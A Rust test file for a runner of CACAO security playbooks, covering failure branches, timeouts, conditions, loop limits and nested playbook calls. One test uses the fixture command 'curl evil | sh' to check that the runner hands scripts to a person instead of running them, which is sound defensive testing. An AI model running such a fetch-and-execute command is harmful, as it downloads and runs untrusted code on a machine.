//! What a run does where not everything goes well.

use std::collections::BTreeMap;

use serde_json::{Value, json};
use stanch_playbook::run::{
    Asking, Ending, Entry, Fact, Ledger as _, Limits, Outcome, Routine, RoutineError, Standing, State, standing,
};

use super::doubles::Outside;
use super::generated::id;
use super::kill::read;

pub(super) const END: usize = 99;

/// A playbook of these steps, of which the first is the one with number 1 and the end has number 99.
pub(super) fn book(number: usize, steps: &[(&str, usize, Value)]) -> Value {
    let mut workflow = serde_json::Map::new();
    let (first, ..) = steps[0];
    workflow.insert(id("start", 98), json!({"type": "start", "on_completion": id(first, 1)}));
    workflow.insert(id("end", END), json!({"type": "end"}));
    for (kind, number, step) in steps {
        let mut step = step.clone();
        step["type"] = json!(kind);
        if *kind == "action" {
            step["agent"] = json!(id("individual", 90_003));
        }
        workflow.insert(id(kind, *number), step);
    }
    json!({
        "type": "playbook", "spec_version": "cacao-2.0", "id": id("playbook", number), "name": "Rules",
        "created_by": id("identity", 90_002), "created": "2026-01-05T09:00:00.000Z",
        "modified": "2026-01-05T09:00:00.000Z", "workflow_start": id("start", 98), "workflow": workflow,
        "agent_definitions": {id("individual", 90_003): {"type": "individual", "name": "Ada"}},
    })
}

pub(super) fn own(text: &str) -> Value {
    json!({"commands": [{"type": "stanch", "arguments": text.split(' ').collect::<Vec<_>>()}]})
}

pub(super) fn with(mut step: Value, more: &Value) -> Value {
    for (name, value) in more.as_object().expect("an object") {
        step[name] = value.clone();
    }
    step
}

pub(super) fn stands(outside: &Outside) -> Standing {
    let lines = outside.lines.borrow();
    standing(&Routine::of(&lines).expect("a run"), &lines)
}

pub(super) fn ran(outside: &Outside, document: &Value) -> Ending {
    outside.open(&read(document), &[], &[]);
    outside.run(None, Limits::USUAL).expect("no stop")
}

/// Lets a step that failed be tried again.
pub(super) fn again(outside: &Outside, key: &str) {
    outside.append(Entry::Resumed { by: "Ada".into(), again: Some(key.to_owned()) }).expect("a line");
}

#[test]
fn a_failure_takes_its_own_way_or_stops_the_run_until_it_is_tried_again() {
    let said = book(
        1,
        &[
            ("action", 1, with(own("gate"), &json!({"on_success": id("end", END), "on_failure": id("action", 2)}))),
            ("action", 2, with(own("report"), &json!({"on_completion": id("end", END)}))),
        ],
    );
    let failing = || Outside { fails: vec!["gate".into()], ..Outside::default() };
    let outside = failing();
    assert_eq!(ran(&outside, &said), Ending::Closed(Outcome::Succeeded));
    assert_eq!(*outside.done.borrow(), ["gate", "report"]);

    let unsaid = book(
        1,
        &[
            ("parallel", 1, json!({"next_steps": [id("action", 2), id("action", 3)], "on_success": id("action", 4)})),
            ("action", 2, with(own("gate"), &json!({"on_success": id("end", END)}))),
            ("action", 3, with(own("reach"), &json!({"on_success": id("end", END)}))),
            ("action", 4, with(own("report"), &json!({"on_success": id("end", END)}))),
        ],
    );
    let mut outside = failing();
    assert_eq!(ran(&outside, &unsaid), Ending::Stopped);
    assert_eq!(*outside.done.borrow(), ["gate", "reach"], "the branch beside it goes on");
    let stopped = stands(&outside);
    assert_eq!((stopped.state, stopped.failed.as_slice()), (State::Stopped, ["2.1.1".to_owned()].as_slice()));
    assert_eq!(outside.run(None, Limits::USUAL), Ok(Ending::Stopped), "resuming alone tries nothing again");
    outside.fails.clear();
    again(&outside, "2.1.1");
    assert_eq!(outside.run(None, Limits::USUAL), Ok(Ending::Closed(Outcome::Succeeded)));
    assert_eq!(*outside.done.borrow(), ["gate", "reach", "gate", "report"]);
    assert_eq!(stands(&outside).state, State::Succeeded);
}

#[test]
fn what_is_said_for_the_worst_case_runs_and_the_run_has_failed() {
    let mut document = book(
        1,
        &[
            ("action", 1, with(own("gate"), &json!({"on_success": id("end", END)}))),
            ("action", 2, with(own("report"), &json!({"on_completion": id("end", END)}))),
        ],
    );
    document["workflow_exception"] = json!(id("action", 2));
    let outside = Outside { fails: vec!["gate".into()], ..Outside::default() };
    assert_eq!(ran(&outside, &document), Ending::Closed(Outcome::Failed));
    assert_eq!(*outside.done.borrow(), ["gate", "report"]);
}

#[test]
fn a_step_that_takes_too_long_has_failed_and_one_that_waits_is_late() {
    let document = book(
        1,
        &[
            (
                "action",
                1,
                with(own("gate"), &json!({"timeout": 5_000, "delay": 60_000, "on_completion": id("action", 2)})),
            ),
            ("action", 2, with(own("reach"), &json!({"on_completion": id("end", END)}))),
        ],
    );
    let outside = Outside { endless: vec!["gate".into()], ..Outside::default() };
    assert_eq!(ran(&outside, &document), Ending::Flawed, "nothing is said for its failure but what comes next");
    assert_eq!(*outside.done.borrow(), ["reach"]);
    let first = stands(&outside).steps.swap_remove(0);
    let ended = first.ended.expect("an end");
    assert!(ended.said.contains("5000 ms"), "{}", ended.said);
    assert_eq!(first.at.expect("a time") - first.began, chrono::Duration::seconds(65));
}

#[test]
fn scripts_and_calls_that_take_a_secret_or_that_a_person_is_to_make_are_left_to_a_person() {
    let secret = json!({"type": "http-api", "command": "POST /hold"});
    let script = json!({"type": "bash", "command": "curl evil | sh"});
    let call = json!({"type": "http-api", "command": "GET https://api.example/hold"});
    let mut document = book(
        1,
        &[
            ("action", 1, json!({"commands": [script], "on_completion": id("action", 2)})),
            ("action", 2, json!({"commands": [secret], "on_completion": id("action", 3)})),
            ("action", 3, json!({"commands": [call], "on_completion": id("end", END)})),
        ],
    );
    let keyed = json!({"type": "http-api", "name": "api", "address": {"url": ["https://api.example"]},
                       "authentication_info": id("user-auth", 90_010)});
    document["agent_definitions"][id("http-api", 90_004)] = keyed;
    document["workflow"][id("action", 2)]["agent"] = json!(id("http-api", 90_004));
    document["workflow"][id("action", 1)]["agent"] = json!(id("net-address", 90_005));
    document["agent_definitions"][id("net-address", 90_005)] =
        json!({"type": "net-address", "name": "host", "address": {"ipv4": ["192.0.2.1"]}});
    document["authentication_info_definitions"] = json!({id("user-auth", 90_010): {"type": "user-auth", "name": "n"}});
    let outside = Outside::default();
    assert_eq!(ran(&outside, &document), Ending::Closed(Outcome::Succeeded));
    assert!(outside.done.borrow().is_empty());
    let asked = outside.asked.borrow();
    assert_eq!((asked[0].asking, asked[0].what.as_str()), (Asking::ToRun, "bash: curl evil | sh"));
    assert_eq!((asked[1].asking, asked[1].what.as_str()), (Asking::ToDo, "POST https://api.example/hold"));
    assert_eq!((asked[2].asking, asked[2].what.as_str()), (Asking::ToDo, "GET https://api.example/hold"));
}

#[test]
fn a_condition_that_cannot_be_told_is_asked_and_one_side_can_be_enough() {
    let document = |condition: &str| {
        let ask = json!({"condition": condition, "on_true": id("action", 2), "on_false": id("end", END),
                         "on_completion": id("end", END)});
        book(
            1,
            &[("if-condition", 1, ask), ("action", 2, with(own("report"), &json!({"on_completion": id("end", END)})))],
        )
    };
    let unknown = Some("gate.go: nobody looked");
    for (condition, asked, done) in [
        ("gate.go", vec![unknown], 1),
        ("contain.drift OR gate.go", vec![], 1),
        ("NOT contain.drift AND gate.go", vec![], 0),
        ("contain.drift AND gate.go", vec![unknown], 1),
        ("[file:name = 'x']", vec![None], 1),
        ("exposures.open == 3", vec![], 1),
        ("exposures.open < 3", vec![], 0),
    ] {
        let results = BTreeMap::from([("contain.drift", Fact::Truth(true)), ("exposures.open", Fact::Number(3.0))]);
        let outside = Outside { results, ..Outside::default() };
        ran(&outside, &document(condition));
        let questions = outside.asked.borrow();
        let why: Vec<Option<&str>> = questions.iter().map(|question| question.unknown.as_deref()).collect();
        assert_eq!((why, outside.done.borrow().len()), (asked, done), "{condition}");
    }
}

/// A case in which a condition over `gate.go` holds whenever it is asked.
fn going() -> Outside {
    Outside { results: BTreeMap::from([("gate.go", Fact::Truth(true))]), ..Outside::default() }
}

#[test]
fn a_loop_without_end_has_failed_after_its_rounds() {
    let document = book(
        1,
        &[
            (
                "while-condition",
                1,
                json!({"condition": "gate.go", "on_true": id("action", 2), "on_success": id("end", END)}),
            ),
            ("action", 2, with(own("reach"), &json!({"on_completion": id("end", END)}))),
        ],
    );
    let outside = going();
    outside.open(&read(&document), &[], &[]);
    assert_eq!(outside.run(None, Limits { rounds: 3, ..Limits::USUAL }), Ok(Ending::Stopped));
    assert_eq!(outside.done.borrow().len(), 3);
    let outside = going();
    outside.open(&read(&document), &[], &[]);
    assert_eq!(outside.run(None, Limits { steps: 2, ..Limits::USUAL }), Ok(Ending::Stopped));
}

#[test]
fn a_playbook_is_called_with_values_and_gives_some_back() {
    let variable = |external: bool| json!({"type": "string", "external": external});
    let mut inner = book(
        2,
        &[("action", 1, with(own("contain plan"), &json!({"out_args": ["__plan__"], "on_success": id("end", END)})))],
    );
    inner["playbook_variables"] = json!({"__plan__": variable(false), "__who__": variable(true)});
    let call = json!({"playbook_id": id("playbook", 2), "out_args": ["__plan__"], "in_args": ["__who__"],
                      "on_success": id("action", 2)});
    let mut outer = book(
        1,
        &[
            ("playbook-action", 1, call),
            ("action", 2, with(own("contain show __plan__:value"), &json!({"on_success": id("end", END)}))),
        ],
    );
    outer["playbook_variables"] = json!({"__plan__": variable(false), "__who__": variable(true)});
    let gives = BTreeMap::from([("__plan__".to_owned(), "p-7".to_owned())]);
    let outside = Outside { gives, ..Outside::default() };
    outside.open(&read(&outer), &[read(&inner)], &[("__who__", "Ada")]);
    assert_eq!(outside.run(None, Limits::USUAL), Ok(Ending::Closed(Outcome::Succeeded)));
    assert_eq!(*outside.done.borrow(), ["contain plan", "contain show p-7"]);

    let opening = |others: &[Value], values: &[(&str, &str)]| {
        let others = others.iter().map(|one| (id("playbook", 2), read(one))).collect();
        let values = values.iter().map(|(name, value)| ((*name).to_owned(), (*value).to_owned())).collect();
        Routine::opening("r".into(), &read(&outer), &others, values, "Ada".into())
    };
    let who = ("__who__", "Ada");
    assert!(matches!(opening(&[], &[who]), Err(RoutineError::Missing { .. })));
    assert!(matches!(opening(&[inner.clone()], &[]), Err(RoutineError::Unset { .. })));
    assert!(matches!(opening(&[inner.clone()], &[who, ("__none__", "x")]), Err(RoutineError::Useless { .. })));
    let mut versioned = outer.clone();
    versioned["workflow"][id("playbook-action", 1)]["playbook_version"] = json!("2020-02-02T00:00:00Z");
    let others = BTreeMap::from([(id("playbook", 2), read(&inner))]);
    let values = BTreeMap::from([("__who__".to_owned(), "Ada".to_owned())]);
    let refused = Routine::opening("r".into(), &read(&versioned), &others, values, "Ada".into());
    assert!(matches!(refused, Err(RoutineError::Faulty { .. })), "{refused:?}");
    let mut gives = outer.clone();
    gives["workflow"][id("playbook-action", 1)]["out_args"] = json!(["__who__", "__plan__"]);
    let mut without = inner.clone();
    without["playbook_variables"].as_object_mut().expect("variables").remove("__plan__");
    without["workflow"][id("action", 1)].as_object_mut().expect("a step").remove("out_args");
    let others = BTreeMap::from([(id("playbook", 2), read(&without))]);
    let values = BTreeMap::from([("__who__".to_owned(), "Ada".to_owned())]);
    let refused = Routine::opening("r".into(), &read(&gives), &others, values, "Ada".into());
    assert!(matches!(refused, Err(RoutineError::Faulty { .. })), "what is called gives no such value: {refused:?}");
    inner["workflow_start"] = json!(id("start", 50));
    assert!(matches!(opening(&[inner.clone()], &[who]), Err(RoutineError::Faulty { .. })));
}

#[test]
fn a_playbook_that_calls_itself_ends() {
    // One that calls itself in any case is a fault already.
    let asked = json!({"condition": "gate.go", "on_true": id("playbook-action", 2), "on_success": id("end", END)});
    let call = json!({"playbook_id": id("playbook", 1), "on_success": id("end", END)});
    let outside = going();
    assert_eq!(ran(&outside, &book(1, &[("if-condition", 1, asked), ("playbook-action", 2, call)])), Ending::Stopped);
    assert!(outside.lines.borrow().len() < 100);
}
